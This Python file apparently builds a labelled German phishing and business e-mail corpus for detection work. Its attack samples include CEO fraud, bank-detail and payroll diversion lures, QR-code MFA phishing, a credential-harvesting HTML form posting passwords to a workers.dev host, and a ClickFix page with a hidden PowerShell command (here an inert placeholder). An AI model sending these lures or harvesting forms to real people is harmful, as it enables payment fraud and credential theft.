# -*- coding: utf-8 -*-
"""German messages: attacks 01-08, business 01-08."""
from .common import *  # noqa: F401,F403

# ------------------------------------------------------------------ shared data
LIEF_OLD = IB.iban_de("76050101", "010482273")          # Sparkasse Nürnberg (old, genuine)
LIEF_NEW = IB.iban_de("76020070", "003612458")          # HypoVereinsbank Nürnberg (new from 1.1.2027, genuine)
ATK_N26 = IB.iban_de("10011001", "624711836")           # mule account, N26 (attack 02)
ATK_REG = IB.iban_de("50010517", "540318872")           # fake register, ING (attack 06)
ATK_REV = IB.iban_lt("32500", "80914475213")            # payroll diversion, Revolut LT (attack 05)
LIEF_VAT = IB.de_ustid("24681357")
EG_VAT = IB.de_ustid("81592460")
P = IB.pretty

LIEF_SIG_PL = """Petra Lang
Buchhaltung / Debitorenmanagement

Lieferant GmbH
Ostendstraße 115 · 90482 Nürnberg
Tel. +49 911 94408-22 · Fax +49 911 94408-99
p.lang@lieferant-gmbh.de · www.lieferant-gmbh.de
Geschäftsführer: Stefan Maier, Dr. Heike Ostermann · Amtsgericht Nürnberg HRB 28841 · USt-IdNr. %s""" % LIEF_VAT

LIEF_M365 = {"srv_a": "FR3P281MB2417.DEUP281", "srv_b": "BE1P281MB1873.DEUP281", "org": "lieferant-gmbh.de",
             "tenant": "6f1c2a94-3b7e-4d21-9a0c-58e2d4b71f36", "eop": 0, "lang": "de-DE", "msip": True}


# ================================================================== ATTACKS
@msg("attack", 1, "de", "ceo-fraud-freemail-acquisition")
def a01(r):
    body = """Guten Morgen Frau Köhler,

sind Sie heute im Haus und erreichbar? Ich sitze den ganzen Vormittag in Verhandlungen in Linz und kann nicht telefonieren.

Wir stehen kurz vor der Unterzeichnung für die Übernahme eines kleineren Reisebusunternehmens in Oberösterreich. Bis zur offiziellen Bekanntgabe muss das streng vertraulich bleiben – bitte vorerst auch nicht mit Herrn Bauer oder der Buchhaltung besprechen, die kartellrechtliche Prüfung läuft noch über die Kanzlei.

Für die Exklusivitätsvereinbarung müssen wir heute noch eine Anzahlung leisten. Dr. Leitner von der Kanzlei schickt Ihnen gleich die Zahlungsdaten für das Treuhandkonto. Können Sie die Überweisung heute noch als Eilüberweisung freigeben? Den Vorgang dokumentieren wir nächste Woche sauber nach.

Bitte antworten Sie nur an diese Adresse, mein Firmenpostfach synchronisiert unterwegs gerade nicht zuverlässig.

Danke Ihnen und Gruß
Jörg Brückner

Von meinem iPhone gesendet"""
    return dict(
        system="ui", opts={"kind": "webde", "client": "iphone", "client_ip": "178.115.%d.%d" % (r.randint(1, 250), r.randint(1, 250)),
                           "client_helo": "[10.%d.%d.%d]" % (r.randint(1, 200), r.randint(1, 200), r.randint(1, 200)), "xmailer": "iPhone Mail (22B91)"},
        dt=at(2026, 10, 13, 8, 47, 31), frm=("Jörg Brückner", "j.brueckner.gf@web.de"), to=[S("cfo")],
        subject="Vertraulich – kurze Rückmeldung", hcs="utf-8", henc="Q",
        root=text(body, "utf-8", "quoted-printable"),
        what="CEO fraud: 'CEO' on web.de asks CFO for a confidential same-day escrow payment for an acquisition; lawyer to follow",
        why="CEO display name on a free-mail address (CEO uses joerg.brueckner@example.com); secrecy from colleagues and accounting, urgency, bypass of four-eyes process, 'reply only here', unknown lawyer with escrow account; sent from an Austrian mobile IP via web.de",
        pair="b03")


@msg("attack", 2, "de", "supplier-bank-change-lookalike")
def a02(r):
    body = """Sehr geehrte Frau Weiß,

im Zuge der Umstellung unseres Zahlungsverkehrs auf eine neue Hausbank ändert sich unsere Bankverbindung mit sofortiger Wirkung. Bitte passen Sie die Stammdaten in Ihrem Kreditorenkonto (unsere Kundennummer bei Ihnen: 70412) entsprechend an und verwenden Sie für alle offenen sowie künftigen Zahlungen ausschließlich die neue Verbindung:

Kontoinhaber: Lieferant GmbH
IBAN: %s
BIC: NTSBDEB1XXX

Die bisherige Verbindung bei der Sparkasse Nürnberg wird zum Monatsende aufgelöst; Zahlungen dorthin können ab sofort nicht mehr zugeordnet werden und werden zurückgebucht.

Betroffen sind insbesondere die noch offenen Rechnungen RE-2026-10-4471 (3.842,17 €) und RE-2026-10-4502 (1.266,90 €). Wir wären Ihnen dankbar, wenn Sie beide Beträge bereits mit Ihrem nächsten Zahllauf auf das neue Konto überweisen.

Das Schreiben unserer Geschäftsführung finden Sie im Anhang. Eine kurze Bestätigung der Umstellung per E-Mail an diese Adresse genügt uns.

Mit freundlichen Grüßen

%s""" % (P(ATK_N26), LIEF_SIG_PL.replace("p.lang@lieferant-gmbh.de", "rechnungen@lieferant-gmbh.com"))
    pdfp = pdf("Bankverbindung_Lieferant_GmbH_2026.pdf", [[
        ("h", "Lieferant GmbH"), ("s", "Ostendstraße 115 · 90482 Nürnberg"), "", "",
        "Example Reisen & Omnibus GmbH", "Kreditorenbuchhaltung", "Hafenstraße 21", "93055 Regensburg", "",
        "Nürnberg, 14.10.2026", "",
        ("b", "Mitteilung über die Änderung unserer Bankverbindung"), "",
        "Sehr geehrte Damen und Herren,", "",
        "hiermit teilen wir Ihnen mit, dass sich unsere Bankverbindung mit sofortiger Wirkung ändert.",
        "Bitte veranlassen Sie alle Zahlungen ab sofort ausschließlich auf folgendes Konto:", "",
        "Kontoinhaber: Lieferant GmbH", "IBAN: " + P(ATK_N26), "BIC: NTSBDEB1XXX", "",
        "Die bisherige Bankverbindung ist ab sofort nicht mehr gültig.", "",
        "Mit freundlichen Grüßen", "", "i. A. Petra Lang", "Buchhaltung", "",
        ("s", "Lieferant GmbH · Amtsgericht Nürnberg HRB 28841 · USt-IdNr. " + LIEF_VAT)]],
        title="Bankverbindung", author="Buchhaltung", date="D:20261014081102+02'00'")
    plain = text(body, "windows-1252", "quoted-printable")
    htm = Part("text/html", body=html_outlook(body, "windows-1252", "DE"), charset="windows-1252", cte="quoted-printable")
    root = mixed(r, "outlook", alt(r, "outlook", plain, htm), pdfp)
    ip3, ip4 = r.randint(128, 191), r.randint(2, 250)
    return dict(
        system="vps", opts={"helo": "mail.lieferant-gmbh.com", "rdns": "static.%d.%d.201.138.clients.your-server.de" % (ip4, ip3),
                            "ip": "138.201.%d.%d" % (ip3, ip4), "client": "outlook", "lang": "de", "client_ip": "185.220.%d.%d" % (r.randint(1, 250), r.randint(1, 250)),
                            "client_helo": "DESKTOP-7QH2K9M"},
        dt=at(2026, 10, 14, 10, 3, 12), frm=("Lieferant GmbH | Buchhaltung", "rechnungen@lieferant-gmbh.com"), to=[S("ap")],
        subject="Änderung unserer Bankverbindung – bitte ab sofort berücksichtigen", hcs="windows-1252", henc="Q", quote_names=True,
        root=root,
        what="Supplier bank-detail change from look-alike lieferant-gmbh.com with PDF 'letter'; asks to pay two open invoices to a new N26 account",
        why="Look-alike domain (.com instead of lieferant-gmbh.de) on a Hetzner VPS instead of the supplier's Microsoft 365; new account at a neobank effective immediately, old account 'closed', pressure to redirect open invoices, asks for e-mail confirmation only (no call-back). IBAN is mod-97 valid",
        pair="b02")


@msg("attack", 3, "de", "e-invoice-registry-phish-sendgrid")
def a03(r):
    link = "https://u4821395.ct.sendgrid.net/ls/click?upn=u001.%s-2FzP%s" % (r.s(60), r.s(40))
    body = """Pflichtregistrierung für den Empfang elektronischer Rechnungen

Sehr geehrte Damen und Herren,

seit dem 1. Januar 2025 müssen alle inländischen Unternehmen E-Rechnungen im strukturierten Format (XRechnung, ZUGFeRD ab Version 2.0.1) empfangen können. Mit dem Ende der Übergangsfrist zum 1. Januar 2027 dürfen Unternehmen mit einem Vorjahresumsatz über 800.000 Euro keine Papier- oder PDF-Rechnungen mehr ausstellen.

Für Ihr Unternehmen

Example Reisen & Omnibus GmbH
USt-IdNr. %s

ist im E-Rechnungs-Empfangsverzeichnis bislang keine gültige Empfangsadresse hinterlegt. Ohne Eintrag können Rechnungen Ihrer Lieferanten ab 2027 nicht mehr zugestellt werden; der Vorsteuerabzug aus nicht ordnungsgemäß empfangenen Rechnungen kann versagt werden.

Bitte hinterlegen Sie Ihre Empfangsadresse bis spätestens 30.11.2026 und bestätigen Sie die Berechtigung mit Ihrem Unternehmenskonto (Microsoft 365 oder ELSTER-Organisationszertifikat):

Empfangsadresse jetzt hinterlegen:
%s

Die Registrierung dauert etwa drei Minuten und ist für Unternehmen kostenfrei.

Mit freundlichen Grüßen
Ihr Team E-Rechnung Service-Portal

E-Rechnung Service-Portal · Kundenservice Mo–Fr 8–18 Uhr
Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.""" % (EG_VAT, link)
    html = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>E-Rechnung</title></head>
<body style="margin:0;padding:0;background:#eef1f5;font-family:Arial,Helvetica,sans-serif;color:#1d2a3a">
<table role="presentation" width="100%%" cellpadding="0" cellspacing="0" style="background:#eef1f5"><tr><td align="center" style="padding:24px 12px">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border-top:6px solid #00457d">
<tr><td style="padding:22px 32px 8px 32px;font-size:20px;font-weight:bold;color:#00457d">E-Rechnung Service-Portal</td></tr>
<tr><td style="padding:0 32px;font-size:13px;color:#5a6b7d">Pflichtregistrierung für den Empfang elektronischer Rechnungen</td></tr>
<tr><td style="padding:20px 32px;font-size:14px;line-height:21px">
<p>Sehr geehrte Damen und Herren,</p>
<p>seit dem 1.&nbsp;Januar 2025 müssen alle inländischen Unternehmen E-Rechnungen im strukturierten Format (XRechnung, ZUGFeRD ab Version 2.0.1) empfangen können. Mit dem Ende der Übergangsfrist zum 1.&nbsp;Januar 2027 dürfen Unternehmen mit einem Vorjahresumsatz über 800.000&nbsp;Euro keine Papier- oder PDF-Rechnungen mehr ausstellen.</p>
<p>Für Ihr Unternehmen</p>
<p style="background:#f3f6f9;padding:12px 16px;border-left:4px solid #00457d"><b>Example Reisen &amp; Omnibus GmbH</b><br>USt-IdNr. %s</p>
<p>ist im E-Rechnungs-Empfangsverzeichnis bislang <b>keine gültige Empfangsadresse</b> hinterlegt. Ohne Eintrag können Rechnungen Ihrer Lieferanten ab 2027 nicht mehr zugestellt werden; der Vorsteuerabzug aus nicht ordnungsgemäß empfangenen Rechnungen kann versagt werden.</p>
<p>Bitte hinterlegen Sie Ihre Empfangsadresse bis spätestens <b>30.11.2026</b> und bestätigen Sie die Berechtigung mit Ihrem Unternehmenskonto (Microsoft&nbsp;365 oder ELSTER-Organisationszertifikat).</p>
<p style="text-align:center;padding:10px 0"><a href="%s" style="background:#00457d;color:#ffffff;text-decoration:none;padding:12px 28px;font-weight:bold;display:inline-block">Empfangsadresse jetzt hinterlegen</a></p>
<p>Die Registrierung dauert etwa drei Minuten und ist für Unternehmen kostenfrei.</p>
<p>Mit freundlichen Grüßen<br>Ihr Team E-Rechnung Service-Portal</p>
</td></tr>
<tr><td style="padding:14px 32px;background:#f3f6f9;font-size:11px;color:#6b7a89">E-Rechnung Service-Portal &middot; Kundenservice Mo&ndash;Fr 8&ndash;18 Uhr<br>Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.</td></tr>
</table></td></tr></table>
<img src="https://u4821395.ct.sendgrid.net/wf/open?upn=u001.%s" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;border-width:0 !important;margin:0 !important;padding:0 !important">
</body></html>
""" % (EG_VAT, link, r.s(80))
    root = alt(r, "sendgrid", text(body, "utf-8", "quoted-printable"), Part("text/html", body=html, charset="utf-8", cte="quoted-printable"))
    return dict(
        system="sendgrid", opts={"em": "em4471.erechnung-serviceportal.de"},
        dt=at(2026, 10, 20, 9, 12, 40), frm=("E-Rechnung Service-Portal", "noreply@erechnung-serviceportal.de"), to=[S("de_acc")],
        subject="Pflichtregistrierung E-Rechnungsempfang: Frist 30.11.2026 – Example Reisen & Omnibus GmbH", hcs="utf-8", henc="Q",
        root=root,
        what="Fake e-invoicing 'mandatory registration' (XRechnung/ZUGFeRD) with deadline; button to log in with Microsoft 365 or ELSTER certificate",
        why="Germany has no mandatory central e-invoice receiving registry; invented obligation and input-tax threat; sent through SendGrid from a newly registered lookalike-official domain; link is a click-tracker to a credential page asking for M365/ELSTER credentials")


@msg("attack", 4, "de", "quishing-mfa-reregistration")
def a04(r):
    rcpt = S("hr")[1]
    import base64
    payload = "https://m365-sicherheitscenter.de/auth/renew?u=%s&t=%s" % (base64.urlsafe_b64encode(rcpt.encode()).decode().rstrip("="), r.hex(16))
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:'Segoe UI',Tahoma,Arial,sans-serif;font-size:14px;color:#242424;background:#ffffff">
<table width="560" cellpadding="0" cellspacing="0" style="border:1px solid #e1e1e1">
<tr><td style="padding:18px 24px;border-bottom:1px solid #e1e1e1"><span style="font-size:18px;font-weight:600;color:#5e5e5e">Microsoft 365</span></td></tr>
<tr><td style="padding:22px 24px 6px 24px;font-size:22px;color:#0067b8">Aktion erforderlich: Sicherheitsinformationen erneuern</td></tr>
<tr><td style="padding:8px 24px;line-height:21px">
<p>Hallo Tanja Schäfer,</p>
<p>im Rahmen der Umstellung auf die neuen Authentifizierungsrichtlinien Ihrer Organisation müssen die Anmeldemethoden für das Konto <b>%s</b> bis zum <b>23.10.2026</b> neu registriert werden. Nach Ablauf der Frist wird der Zugriff auf Outlook, Teams und SharePoint vorübergehend gesperrt.</p>
<p>Scannen Sie den folgenden QR-Code mit der Kamera Ihres Smartphones und folgen Sie den Anweisungen, um die Microsoft Authenticator-Registrierung abzuschließen. Der Code ist aus Sicherheitsgründen 48&nbsp;Stunden gültig.</p>
<p style="text-align:center"><img src="cid:%s" width="220" height="220" alt="QR-Code"></p>
<p style="font-size:12px;color:#616161">Verwenden Sie für den Scan ausschließlich Ihr Mobilgerät. Die Registrierung auf dem Arbeitsplatzrechner wird nicht unterstützt.</p>
<p>Vielen Dank,<br>Das Microsoft 365-Team Ihrer Organisation</p>
</td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#8a8886;border-top:1px solid #e1e1e1">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052<br>Diese Nachricht wurde von einer nicht überwachten E-Mail-Adresse gesendet.</td></tr>
</table></body></html>
"""
    cid = "qr_%s@%s" % (r.hex(8), "mail")
    html = html % (rcpt, cid)
    plain = ("Hallo Tanja Schäfer,\n\nim Rahmen der Umstellung auf die neuen Authentifizierungsrichtlinien Ihrer Organisation müssen die Anmeldemethoden "
             "für das Konto %s bis zum 23.10.2026 neu registriert werden.\n\nBitte scannen Sie den QR-Code in der HTML-Ansicht dieser Nachricht mit Ihrem Smartphone.\n\n"
             "Das Microsoft 365-Team Ihrer Organisation\n" % rcpt)
    rel = related(r, "phpmailer", Part("text/html", body=html, charset="utf-8", cte="base64"), qr_inline(payload, cid))
    root = alt(r, "phpmailer", text(plain, "utf-8", "base64"), rel)
    return dict(
        system="exim", opts={"host": "web17.kasserver-host.de", "ip": "85.13.%d.%d" % (r.randint(128, 170), r.randint(2, 250)), "client_ip": "45.89.%d.%d" % (r.randint(1, 250), r.randint(1, 250)),
                             "client": "phpmailer"},
        envelope="praxis@physio-am-dom.de",
        dt=at(2026, 10, 21, 7, 55, 3), frm=("Microsoft 365", "praxis@physio-am-dom.de"), to=[S("hr")],
        subject="Aktion erforderlich: MFA-Neuregistrierung für %s bis 23.10.2026" % rcpt, hcs="utf-8", henc="B",
        root=root,
        what="Quishing: 'Microsoft 365' asks HR to renew MFA by scanning an inline QR code before a lock-out deadline",
        why="Sent from a compromised physiotherapy practice (cPanel/Exim, PHPMailer) with 'Microsoft 365' display name; the QR code (decodable) leads to m365-sicherheitscenter.de with the victim's address base64-encoded; forces use of the phone to bypass desktop URL filtering; lock-out threat. Company policy (business 07) says MFA QR codes are never sent by mail",
        pair="b07")


@msg("attack", 5, "de", "payroll-diversion-freemail")
def a05(r):
    body = """<div>Hallo Tanja,</div>
<div>&nbsp;</div>
<div>ich habe mein Girokonto gewechselt und wollte fragen, ob du die neue Bankverbindung noch für die November-Abrechnung hinterlegen kannst:</div>
<div>&nbsp;</div>
<div>Kontoinhaberin: Julia Neumann<br>IBAN: %s<br>BIC: REVOLT21</div>
<div>&nbsp;</div>
<div>Ich schreibe dir von privat, weil ich gerade beim Kunden in Straubing bin und der Laptop das VPN nicht aufbaut. Muss ich dafür noch ein Formular ausfüllen oder reicht dir das so? Das alte Konto bei der Volksbank löse ich zum Monatsende auf.</div>
<div>&nbsp;</div>
<div>Danke dir und viele Grüße</div>
<div>Julia</div>
""" % P(ATK_REV)
    html = '<html><head></head><body><div style="font-family: Verdana;font-size: 12.0px;">%s</div></body></html>' % body
    return dict(
        system="ui", opts={"kind": "gmx", "client": "trinity", "client_ip": "102.129.%d.%d" % (r.randint(1, 250), r.randint(1, 250))},
        dt=at(2026, 11, 12, 14, 22, 8), frm=("Julia Neumann", "neumann.julia85@gmx.de"), to=[S("hr")],
        subject="Neue Bankverbindung für mein Gehalt", hcs="utf-8", henc="Q",
        root=Part("text/html", body=html, charset="UTF-8", cte="quoted-printable"),
        what="Payroll diversion: 'employee' asks HR by private GMX mail to switch her salary account to a Revolut (LT) IBAN before the November payroll",
        why="Change of salary account requested from an unknown private free-mail address with an excuse for not using company mail; new account at a foreign neobank; timed before the payroll run; originating IP not German. Bank changes must go through the HR portal with identity check",
        pair="b04")


@msg("attack", 6, "de", "fake-register-invoice-brevo")
def a06(r):
    link = "https://r.sender-sib.com/mk/cl/f/%s" % r.s(70)
    body = """Eintragungsbestätigung und Rechnung Nr. 2026-118734

Sehr geehrte Damen und Herren,

vielen Dank für die Aktualisierung Ihres Unternehmenseintrags. Auf Grundlage der öffentlich verfügbaren Angaben zu Ihrer Genehmigung nach dem Personenbeförderungsgesetz (PBefG) wurde Ihr Unternehmen in das Register Personenverkehr Deutschland aufgenommen:

Unternehmen: Example Reisen & Omnibus GmbH
Anschrift: Hafenstraße 21, 93055 Regensburg
Branche: Omnibusverkehr / Gelegenheitsverkehr / Schülerbeförderung
Registernummer: RPD-93-118734

Für die Eintragung im Registerzeitraum 01.12.2026 – 30.11.2027 berechnen wir:

Eintragung Register Personenverkehr (12 Monate)   1.080,67 EUR
zzgl. 19 %% USt.                                     205,33 EUR
Gesamtbetrag                                      1.286,00 EUR

Bitte überweisen Sie den Gesamtbetrag innerhalb von 10 Tagen ohne Abzug unter Angabe der Registernummer auf folgendes Konto:

Empfänger: RPD Register Personenverkehr Deutschland
IBAN: %s
BIC: INGDDEFFXXX
Verwendungszweck: RPD-93-118734

Die Rechnung finden Sie zusätzlich als PDF im Anhang. Ihren Eintrag können Sie jederzeit online einsehen:
%s

Mit freundlichen Grüßen
Ihre Registerverwaltung

RPD Register Personenverkehr Deutschland
Kundenservice: service@register-personenverkehr.de

Hinweis: Der Eintrag in das Register Personenverkehr ist ein Angebot der RPD und erfolgt unabhängig von behördlichen Registern. Mit Zahlung des Rechnungsbetrags kommt der Vertrag über die Eintragung für zwölf Monate zustande; er verlängert sich jeweils um weitere zwölf Monate, sofern er nicht drei Monate vor Ablauf gekündigt wird.""" % (P(ATK_REG), link)
    pdfp = pdf("Rechnung_RPD-2026-118734.pdf", [[
        ("h", "RPD Register Personenverkehr Deutschland"), ("s", "Registerverwaltung · Postfach 10 14 22 · 10559 Berlin"), "",
        "Example Reisen & Omnibus GmbH", "Hafenstraße 21", "93055 Regensburg", "",
        ("b", "Rechnung Nr. 2026-118734"), "Rechnungsdatum: 27.10.2026    Registernummer: RPD-93-118734", "",
        "Pos. 1  Eintragung Register Personenverkehr, Zeitraum 01.12.2026 - 30.11.2027      1.080,67 EUR",
        "zzgl. 19 % USt.                                                                      205,33 EUR",
        ("b", "Zahlbetrag                                                                  1.286,00 EUR"), "",
        "Zahlbar innerhalb von 10 Tagen ohne Abzug.",
        "IBAN: " + P(ATK_REG) + "   BIC: INGDDEFFXXX", "",
        ("s", "Der Eintrag in das Register Personenverkehr ist ein Angebot der RPD und erfolgt unabhängig von behördlichen Registern."),
        ("s", "Mit Zahlung kommt der Vertrag zustande; Laufzeit 12 Monate, Verlängerung um jeweils 12 Monate bei nicht fristgerechter Kündigung.")]],
        title="Rechnung 2026-118734", author="RPD", date="D:20261027101500+01'00'")
    html = "<html><head><meta charset=\"utf-8\"></head><body style=\"font-family:Arial,sans-serif;font-size:14px\">" + "".join(
        "<p>%s</p>" % esc(p).replace("\n", "<br>") for p in body.split("\n\n")) + "</body></html>"
    root = mixed(r, "brevo", alt(r, "brevo", text(body, "utf-8", "quoted-printable"), Part("text/html", body=html, charset="utf-8", cte="quoted-printable")), pdfp)
    return dict(
        system="brevo", opts={"bounce_dom": "bounces.register-personenverkehr.de"},
        dt=at(2026, 10, 27, 10, 31, 55), frm=("RPD Register Personenverkehr", "rechnung@register-personenverkehr.de"), to=[S("ap")],
        subject="Eintragungsbestätigung und Rechnung Nr. 2026-118734", hcs="utf-8", henc="Q",
        root=root,
        what="Fake register / directory 'invoice' (offer disguised as invoice) for a 'Register Personenverkehr' entry, EUR 1,286.00 with auto-renewal",
        why="Unsolicited, official-sounding private register referencing the PBefG licence; 'invoice' is legally an offer hidden in small print with auto-renewal; bulk-sent via Brevo; no order exists. IBAN is mod-97 valid")


@msg("attack", 7, "de", "balm-hearing-html-attachment")
def a07(r):
    post = "https://balm-doc-7z2026.hkxp3b.workers.dev/s"
    body = """Sehr geehrte Damen und Herren,

bei einer Kontrolle am 28.10.2026 um 14:12 Uhr auf der BAB 3, Parkplatz Donautal, Fahrtrichtung Passau, wurden am Kraftomnibus mit dem amtlichen Kennzeichen R-EG 2041 Verstöße gegen die Vorschriften über Lenk- und Ruhezeiten (Verordnung (EG) Nr. 561/2006) festgestellt.

Als Halter bzw. Unternehmer erhalten Sie gemäß § 55 OWiG Gelegenheit, sich zu den Ihnen zur Last gelegten Ordnungswidrigkeiten zu äußern. Den Anhörungsbogen mit den Auswertungsdaten des digitalen Fahrtenschreibers (Fahrerkarte und Massenspeicher) finden Sie im Anhang.

Aktenzeichen: 7Z-2026-118452
Kennzeichen: R-EG 2041
Tattag: 28.10.2026

Bitte senden Sie den Anhörungsbogen innerhalb von sieben Tagen nach Zugang elektronisch zurück. Das Dokument ist aus Datenschutzgründen geschützt und kann erst nach Bestätigung Ihrer geschäftlichen E-Mail-Adresse geöffnet werden.

Mit freundlichen Grüßen
Im Auftrag

Bundesamt für Logistik und Mobilität
Bußgeldstelle
Werderstraße 34, 50672 Köln"""
    rcpt = S("de_mgr")[1]
    att = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>Anhörungsbogen 7Z-2026-118452</title>
<style>
body{margin:0;font-family:'Segoe UI',Arial,sans-serif;background:#f2f2f2}
.doc{filter:blur(5px);width:760px;margin:30px auto;background:#fff;padding:40px;color:#333;font-size:13px;line-height:20px}
.box{position:fixed;top:120px;left:50%%;margin-left:-190px;width:380px;background:#fff;box-shadow:0 2px 12px rgba(0,0,0,.3);padding:30px}
.box h2{font-size:20px;font-weight:600;margin:0 0 8px 0}
input{width:100%%;box-sizing:border-box;border:none;border-bottom:1px solid #666;padding:8px 0;font-size:15px;margin:10px 0}
button{background:#0067b8;color:#fff;border:0;padding:9px 30px;font-size:15px;float:right}
</style></head>
<body>
<div class="doc"><b>Bundesamt für Logistik und Mobilität – Bußgeldstelle</b><br><br>Anhörungsbogen im Bußgeldverfahren<br>Az. 7Z-2026-118452<br><br>Sehr geehrte Damen und Herren, ...<br>Auswertung Fahrerkarte ... Lenkzeitüberschreitung ... Unterschreitung der täglichen Ruhezeit ...<br><br>..........................................................................<br>..........................................................................</div>
<div class="box">
<div style="font-size:15px;color:#5e5e5e;margin-bottom:14px">Microsoft</div>
<h2>Dokument geschützt</h2>
<p style="font-size:13px">Bestätigen Sie Ihre geschäftliche E-Mail-Adresse, um das Dokument anzuzeigen.</p>
<form method="post" action="%s">
<input type="email" name="login" value="%s" readonly>
<input type="password" name="passwd" placeholder="Kennwort" required>
<input type="hidden" name="ref" value="7Z-2026-118452">
<button type="submit">Anmelden</button>
</form>
</div>
</body></html>
""" % (post, rcpt)
    a = attach(att.encode("utf-8"), "text/html", "Anhoerungsbogen_7Z-2026-118452.html")
    html = "<html><body style=\"font-family:Arial,sans-serif;font-size:14px\">" + "".join(
        "<p>%s</p>" % esc(p).replace("\n", "<br>") for p in body.split("\n\n")) + "</body></html>"
    root = mixed(r, "mailgun", alt(r, "mailgun", text(body, "iso-8859-15", "quoted-printable"),
                                   Part("text/html", body=html, charset="iso-8859-15", cte="quoted-printable")), a)
    return dict(
        system="mailgun", opts={"mg": "mg.balm-bussgeldstelle.de", "tag": "anhoerung"},
        dt=at(2026, 11, 4, 9, 40, 19), frm=("Bundesamt für Logistik und Mobilität - Bußgeldstelle", "anhoerung@balm-bussgeldstelle.de"), to=[S("de_mgr")],
        subject="Anhörung im Bußgeldverfahren – Az. 7Z-2026-118452 – Kennzeichen R-EG 2041", hcs="iso-8859-15", henc="Q",
        root=root,
        what="Fake BALM (federal road-haulage authority) hearing notice about driving-time violations of a company coach; HTML attachment",
        why="Authorities serve hearings by post, not as HTML files via Mailgun from a non-bund.de domain; the HTML attachment blurs a fake document behind a Microsoft-style login form (recipient address pre-filled) that posts the password to a workers.dev endpoint; trade-specific pretext (tachograph, plate R-EG 2041)")


@msg("attack", 8, "de", "clickfix-charter-request")
def a08(r):
    body = """Sehr geehrte Frau Neumann,

wir planen für unsere beiden zehnten Klassen (44 Schülerinnen und Schüler, 4 Lehrkräfte) die Abschlussfahrt nach Prag vom 14. bis 18. Juni 2027 und bitten um ein Angebot für einen Fernreisebus (mind. 50 Sitze, Sicherheitsgurte, WC) einschließlich der Transfers vor Ort.

Den genauen Reiseplan mit Abfahrtszeiten, Hotel und Programmpunkten habe ich Ihnen angehängt. Unsere Schulverwaltung gibt Dokumente nur noch über die geschützte Vorschau heraus – beim Öffnen bitte einmal die Bestätigung „Ich bin kein Roboter“ durchführen, dann wird der Plan angezeigt.

Da die Elternbriefe vor den Weihnachtsferien raus müssen, wäre ich für ein Angebot bis Ende nächster Woche sehr dankbar.

Mit freundlichen Grüßen

Stefanie Roth
Klassenleitung 10b
Realschule am Stadtpark Straubing"""
    cmd = 'powershell -w h -nop -c "<# inert evaluation placeholder - payload removed #>" # \u2705 Ich bin kein Roboter - reCAPTCHA Verifizierungs-ID: 4471'
    att = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>Reiseplan Prag – Sicherheitsprüfung</title>
<style>
body{font-family:Arial,Helvetica,sans-serif;background:#f9f9f9;color:#222;margin:0}
.wrap{max-width:620px;margin:60px auto;background:#fff;border:1px solid #ddd;padding:30px}
.cb{border:1px solid #d3d3d3;background:#fafafa;padding:14px;width:290px}
.steps{background:#f1f5fb;border:1px solid #c6d6ee;padding:16px;margin-top:20px}
code{display:block;background:#222;color:#9f9;padding:8px;margin-top:10px;font-size:11px;word-break:break-all}
</style></head>
<body><div class="wrap">
<h2>Reiseplan_Abschlussfahrt_Prag_2027.pdf</h2>
<p>Bitte bestätigen Sie, dass Sie ein Mensch sind, um das Dokument anzuzeigen.</p>
<div class="cb">&#9744; Ich bin kein Roboter <span style="float:right;font-size:10px;color:#888">reCAPTCHA<br>Datenschutz - Nutzungsbedingungen</span></div>
<div class="steps"><b>Zusätzliche Verifizierung erforderlich</b>
<ol><li>Drücken Sie die <b>Windows-Taste + R</b></li>
<li>Drücken Sie <b>Strg + V</b></li>
<li>Drücken Sie <b>Enter</b></li></ol>
<p style="font-size:12px">Der Verifizierungscode wurde bereits in Ihre Zwischenablage kopiert:</p>
<code>%s</code></div>
</div></body></html>
""" % esc(cmd)
    a = attach(att.encode("utf-8"), "text/html", "Reiseplan_Abschlussfahrt_Prag_2027.html")
    htm = html_gmail(body)
    root = mixed(r, "gmail", alt(r, "gmail", text(body, "UTF-8", "quoted-printable"), Part("text/html", body=htm, charset="UTF-8", cte="quoted-printable")), a)
    return dict(
        system="gmail", opts={"tz": "DE"},
        dt=at(2026, 11, 10, 16, 5, 27), frm=("Stefanie Roth", "stefanie.roth.rs.straubing@gmail.com"), to=[S("sales")],
        subject="Anfrage Abschlussfahrt Prag 10b – 48 Personen, Juni 2027", hcs="UTF-8", henc="Q",
        root=root,
        what="ClickFix: plausible class-trip booking request with an HTML 'travel plan' that shows a fake reCAPTCHA and tells the user to press Win+R, Ctrl+V, Enter",
        why="Teacher persona on Gmail (schools use their own domains); the HTML attachment is not a document but a fake CAPTCHA instructing the user to paste and run a clipboard command (ClickFix). The command shown is an inert placeholder and the page contains no script",
        pair="b08")


# ================================================================== BUSINESS
@msg("business", 1, "de", "supplier-invoice-pdf")
def b01(r):
    body = """Sehr geehrte Frau Weiß,

anbei erhalten Sie unsere Rechnung RE-2026-11-4689 zur Lieferung vom 06.11.2026 (Lieferschein LS-88213, Ihre Bestellung 4500118734).

Rechnungsbetrag: 4.679,32 EUR brutto
Zahlbar bis: 09.12.2026 ohne Abzug bzw. bis 19.11.2026 mit 2 % Skonto

Bei Rückfragen zu einzelnen Positionen wenden Sie sich bitte an Herrn Maier (Vertrieb, -14) oder direkt an mich.

Mit freundlichen Grüßen

""" + LIEF_SIG_PL
    items = [
        ("10", "Bremsbelagsatz Vorderachse Setra S 516 HD", "6", "189,40", "1.136,40"),
        ("20", "Bremsscheibe VA, 430 mm, Knorr-Bremse", "4", "312,75", "1.251,00"),
        ("30", "Luftfiltereinsatz MANN C 37 1330", "10", "68,90", "689,00"),
        ("40", "Kraftstofffilter-Set Mercedes OM 470", "12", "41,20", "494,40"),
        ("50", "Scheibenwischerblatt 1000 mm", "10", "26,50", "265,00"),
        ("60", "Versandkostenpauschale Spedition", "1", "96,40", "96,40"),
    ]
